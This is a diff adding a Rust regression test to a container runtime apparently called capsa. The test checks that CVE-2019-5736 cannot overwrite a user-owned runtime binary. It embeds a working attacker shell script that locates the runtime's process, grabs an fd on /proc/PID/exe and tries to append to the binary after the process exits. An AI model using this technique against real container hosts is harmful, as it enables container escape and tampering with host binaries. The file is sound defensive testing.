@@ -596,3 +596,112 @@ fn idmapped_mounts_are_refused_clearly() {
     let o = r.create_refused(&["need a runtime running as root"]);
     o.fails_with(&format!("mounts[{n}]"));
 }
+
+/// The CVE-2019-5736 attacker of tests/escape.rs (see there), in short: find the process
+/// running `marker` (the runtime's binary, run as the interpreter of `#!/proc/self/exe`),
+/// take an fd on its /proc/PID/exe, let it go, and append to the binary once it exited.
+fn attacker(marker: &str, fifo: &str, result: &str) -> String {
+    format!(
+        r#"#!/bin/sh
+end=$(( $(date +%s) + 12 )); pid=
+while [ -z "$pid" ] && [ $(date +%s) -lt $end ]; do
+  for p in /proc/[0-9]*; do
+    case "$( (tr '\0' ' ' < $p/cmdline) 2>/dev/null)" in *"{marker}"*) pid=${{p#/proc/}};; esac
+  done
+  sleep 0.1
+done
+[ -n "$pid" ] || {{ echo NOPROC DONE >> {result}; exec sleep 1000; }}
+if (true < /proc/$pid/exe) 2>/dev/null; then exec 3< /proc/$pid/exe; echo GOT-FD >> {result}; else echo NO-FD >> {result}; fi
+cat {fifo} > /dev/null
+while [ -e /proc/$pid ]; do sleep 0.05; done
+sleep 0.3
+if [ -e /proc/self/fd/3 ] && (echo PWNED >> /proc/self/fd/3) 2>/dev/null; then echo WROTE >> {result}; else echo WRITE-FAILED >> {result}; fi
+echo DONE >> {result}
+exec sleep 1000
+"#
+    )
+}
+
+/// CVE-2019-5736 against a runtime binary the user owns (a build in their home): no
+/// read-only mount can be made without privileges, and the container's root is that user,
+/// who may write the file. capsa execs the workload from a sealed memfd copy instead.
+///
+/// Seen failing: with `Trampoline::unprivileged` using the binary itself for every binary,
+/// the attacker printed `GOT-FD WROTE` and the user's copy ended in "PWNED".
+#[test]
+fn cve_2019_5736_against_a_binary_the_user_owns() {
+    let Some(mut r) = Rootless::new("rl-cve5736") else {
+        return;
+    };
+    let copy = r.ctx.scratch("runtime-copy");
+    std::fs::copy(runtime(), &copy).expect("copy the runtime");
+    chown(&copy, Some(r.user.uid), Some(r.user.gid)).expect("chown");
+    let before = std::fs::read(&copy).expect("read");
+    let rootfs = r.ctx.rootfs();
+    let marker = format!("--log=/tmp/fifo-{}", r.ctx.id);
+    let exec = |p: &std::path::Path, text: &str| {
+        std::fs::write(p, text).expect("write");
+        std::fs::set_permissions(p, std::fs::Permissions::from_mode(0o755)).expect("chmod");
+    };
+    exec(
+        &rootfs.join("bin/evil"),
+        &format!("#!/proc/self/exe {marker}\n"),
+    );
+    let fifo = rootfs.join(format!("tmp/fifo-{}", r.ctx.id));
+    nix::unistd::mkfifo(&fifo, nix::sys::stat::Mode::from_bits_truncate(0o666)).expect("mkfifo");
+    std::fs::set_permissions(&fifo, std::fs::Permissions::from_mode(0o666)).expect("chmod");
+    let fifo_in = format!("/tmp/fifo-{}", r.ctx.id);
+    exec(
+        &rootfs.join("bin/attack"),
+        &attacker(&marker, &fifo_in, "/tmp/result"),
+    );
+    r.ctx.config["root"]["readonly"] = json!(false);
+    r.ctx.args(&["/bin/attack"]);
+    r.ctx.write_config();
+    let b = r.ctx.bundle();
+    let (uid, gid, xdg, root) = (r.user.uid, r.user.gid, r.xdg(), r.ctx.root());
+    let as_user = |args: &[&str]| {
+        let mut full = vec!["--root", root.to_str().expect("utf-8")];
+        full.extend_from_slice(args);
+        let xdg = xdg.clone();
+        run_cmd(
+            &copy,
+            &full,
+            &r.ctx.tmp.path().join("out"),
+            TIMEOUT,
+            move |c| {
+                use std::os::unix::process::CommandExt;
+                c.uid(uid).gid(gid).env("XDG_RUNTIME_DIR", xdg);
+            },
+        )
+    };
+    as_user(&["run", "-d", "--bundle", b.to_str().unwrap(), &r.ctx.id]).ok();
+    let _ = as_user(&["exec", "-d", &r.ctx.id, "/bin/evil"]);
+    let result_file = rootfs.join("tmp/result");
+    let start = std::time::Instant::now();
+    let mut result = String::new();
+    while start.elapsed() < Duration::from_secs(25) {
+        result = std::fs::read_to_string(&result_file).unwrap_or_default();
+        if result.contains("DONE") {
+            break;
+        }
+        std::thread::sleep(Duration::from_millis(50));
+    }
+    let _ = as_user(&["delete", "--force", &r.ctx.id]);
+    assert!(
+        result.contains("DONE"),
+        "attacker did not finish: {result:?}"
+    );
+    assert!(
+        !result.contains("WROTE"),
+        "the container wrote the runtime's binary: {result}"
+    );
+    assert!(
+        std::fs::read(&copy).expect("read") == before,
+        "binary changed: {result}"
+    );
+    if is_capsa() {
+        // The attack really ran: the container got an fd on what the kernel executed.
+        assert!(result.contains("GOT-FD"), "{result}");
+    }
+}
